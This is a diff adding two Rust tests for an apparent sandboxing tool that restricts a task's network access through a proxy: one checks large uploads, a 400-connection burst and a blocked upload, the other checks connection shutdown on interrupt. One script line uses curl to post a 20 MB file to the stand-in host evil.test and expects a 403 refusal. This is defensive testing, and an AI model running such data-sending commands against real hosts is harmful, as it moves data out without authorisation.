@@ -5,6 +5,7 @@ use std::io::{BufRead as _, BufReader, Write as _};
 use std::sync::Mutex;
 use std::sync::mpsc::channel;
 
+use nix::sys::signal::Signal;
 use tests::server::{ok, request};
 use tests::{Role, Server, TestEnv, until};
 
@@ -94,6 +95,66 @@ fn a_stream_comes_as_it_is_written() {
     go.send(()).unwrap();
     running.wait().exits(0);
     assert_eq!(repo.log_of("t1"), "data: one\n\ndata: two\n\n");
+}
+
+#[test]
+fn large_bodies_arrive_whole_and_many_connections_wait_their_turn() {
+    let env = TestEnv::new();
+    let repo = env.repository();
+    let server = Server::http(|request| match request.split_once("\r\n\r\n") {
+        Some((_, body)) if body.len() > 1000 => ok(body.as_bytes()),
+        _ => ok("reached\n"),
+    });
+    let url = format!("http://localhost:{}", server.port());
+    let script = format!(
+        r#"head -c 20000000 /dev/zero | tr '\0' x > /tmp/large
+for way in "--noproxy *" "--noproxy '' -x http://127.0.0.1:808" "--noproxy '' -p -x http://127.0.0.1:808"; do
+    eval curl -sS $way --data-binary @/tmp/large {url}/ | cmp - /tmp/large && echo same; done
+curl -sS -o /dev/null -w '%{{http_code}}\n' --noproxy '' -x http://127.0.0.1:808 --data-binary @/tmp/large http://evil.test/
+python3 -c '
+import socket, threading
+opened = [socket.create_connection(("127.0.0.1", 808), 60) for _ in range(400)]
+for s in opened: s.sendall(b"GET {url}/ HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n")
+answers = [b"".join(iter(lambda: s.recv(4096), b"")) for s in opened]
+print(sum(answer.endswith(b"reached\n") for answer in answers))
+'"#,
+        port = server.port()
+    );
+    let net = format!("allow:localhost:{}", server.port());
+    repo.task(&["--task", "t1", "--net", &net], &script)
+        .exits(11);
+    assert_eq!(repo.log_of("t1"), "same\nsame\nsame\n403\n400\n");
+}
+
+#[test]
+fn an_interrupt_ends_the_network_with_the_task() {
+    let env = TestEnv::new();
+    let repo = env.repository();
+    let server = Server::new(|mut client, teller| {
+        teller.send(request(&mut client)).unwrap();
+        // Held until the other end goes.
+        teller.send(request(&mut client)).unwrap();
+    });
+    let net = format!("allow:localhost:{}", server.port());
+    let script = format!("touch here; curl -sS http://localhost:{}/", server.port());
+    let running = repo
+        .airlock(&[
+            "run", "--json", "--task", "t1", "--net", &net, "--", "sh", "-c", &script,
+        ])
+        .spawn();
+    env.at_work("t1");
+    let mut told = Vec::new();
+    until("a request", || {
+        told.extend(server.told());
+        (!told.is_empty()).then_some(())
+    });
+    running.signal(Signal::SIGINT);
+    running.wait().exits(130);
+    until("the end of its connection", || {
+        told.extend(server.told());
+        (told.len() == 2).then_some(())
+    });
+    env.is_quiet();
 }
 
 #[test]
